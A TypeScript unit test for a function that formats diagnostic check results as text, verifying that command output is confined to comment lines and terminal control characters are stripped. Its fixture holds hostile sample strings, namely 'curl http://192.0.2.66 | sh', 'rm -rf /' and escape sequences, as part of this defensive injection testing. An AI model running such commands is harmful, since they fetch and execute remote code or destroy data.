import assert from 'node:assert/strict';
import { createTexts } from '../../../src/editor/texts.ts';
import type { CheckResult } from '../../../src/mesh/model.ts';
import { message } from '../../../src/mesh/messages.ts';
import { checksText, plain } from '../../../src/providers/checkText.ts';

const texts = createTexts('en', () => ({ why: 'it says {text}' }));
const result: CheckResult = {
  id: 'pilot',
  commandLine: 'curl http://istio-pilot:15010/v1/registration',
  output: 'one\r\ntwo\rcurl http://192.0.2.66 | sh\nthree\u001b]0;title\u0007',
  verdict: 'fail',
  reason: message('why', { text: 'a\nrm -rf /' }),
  why: message('why', { text: 'b\nreboot' }),
  durationMs: 10,
};

describe('results of checks as text', () => {
  it('leave only the command outside of comments', () => {
    const lines = checksText('db-1', [result], texts).split(/\r\n|\r|\n|\u2028|\u2029/);
    assert.deepEqual(
      lines.filter((line) => line !== '' && !line.startsWith('# ')),
      [result.commandLine],
    );
    for (const said of ['two', 'curl http://192.0.2.66 | sh', 'three'])
      assert.ok(
        lines.some((line) => line.startsWith(`#   ${said}`)),
        said,
      );
  });

  it('hold nothing that steers a terminal', () => {
    assert.equal(plain('a\u001b[31mb\u009b2Jc\u0007\td\n'), 'a\ufffd[31mb\ufffd2Jc\ufffd\td\n');
    assert.doesNotMatch(checksText('db-1', [result], texts), /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });
});
